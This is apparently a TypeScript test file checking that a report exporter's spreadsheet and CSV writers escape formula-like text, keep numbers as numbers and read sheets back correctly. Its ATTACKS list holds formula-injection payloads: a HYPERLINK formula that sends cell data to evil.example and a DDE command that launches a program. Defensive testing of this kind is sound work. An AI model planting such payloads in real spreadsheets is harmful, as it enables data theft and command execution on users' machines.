import { read, utils } from '@e965/xlsx'
import { describe, expect, it } from 'vitest'
import { csvOf } from '../../../../src/report/export/csv.ts'
import { writeSheets } from '../../../../src/report/export/sheets.ts'
import { readSheet } from '../../../../src/report/sources/sheet.ts'

const ATTACKS = [
  '=HYPERLINK("http://evil.example?"&A1,"点我")',
  "+1+cmd|'/c calc'!A1",
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '＝1+1',
  '\u200b=1+1',
]

describe('text that looks like a formula', () => {
  it.each(ATTACKS)('%j never reaches a spreadsheet as a formula', async (attack) => {
    const bytes = await writeSheets([{ name: '表', columns: ['备注', attack], rows: [[attack, 1]] }])
    const sheet = read(bytes, { cellFormula: true }).Sheets['表'] ?? {}

    for (const cell of [sheet['A2'], sheet['B1']]) {
      expect([cell?.t, cell?.f, String(cell?.v).startsWith("'")]).toEqual(['s', undefined, true])
    }
    const fields = utils.sheet_to_json<string[]>(
      read(Buffer.from(csvOf(['备注'], [[attack]])), { type: 'buffer', raw: true }).Sheets['Sheet1'] ?? {},
      { header: 1 },
    )
    expect(String(fields[1]?.[0]).startsWith("'")).toBe(true)
  })

  it('numbers stay numbers, negative ones too; numbers as text stay as they are', async () => {
    const bytes = await writeSheets([
      { name: '表', columns: ['a', 'b', 'c'], rows: [[-12.5, '-12.5', '+86']] },
    ])
    const sheet = read(bytes).Sheets['表'] ?? {}

    expect([sheet['A2']?.v, sheet['B2']?.v, sheet['C2']?.v]).toEqual([-12.5, '-12.5', '+86'])
    expect(Buffer.from(csvOf(['a', 'b'], [[-12.5, 'x,"y"']])).toString()).toBe(
      '\ufeffa,b\r\n-12.5,"x,""y"""\r\n',
    )
  })

  it('a file is read back as it was written: sheets, dates, empty cells', async () => {
    const rows = [
      ['华东', 1.5, true, null],
      ['华南', 2, false, '2026-11-29'],
    ]
    const bytes = await writeSheets([
      { name: '明细:一/二', columns: ['部门', '额', '有', '日'], rows },
      { name: '明细:一/二', columns: ['x'], rows: [] },
    ])
    expect(read(bytes).SheetNames).toEqual(['明细 一 二', '明细 一 二_2'])
    expect(await readSheet(bytes, undefined, { rows: 10, bytes: 1_000 })).toEqual({
      columns: ['部门', '额', '有', '日'],
      rows,
    })
    await expect(readSheet(bytes, '别的', { rows: 10, bytes: 1_000 })).rejects.toMatchObject({
      code: 'report.unknown_sheet',
      params: { sheet: '别的', sheets: '明细 一 二、明细 一 二_2' },
    })
  })
})
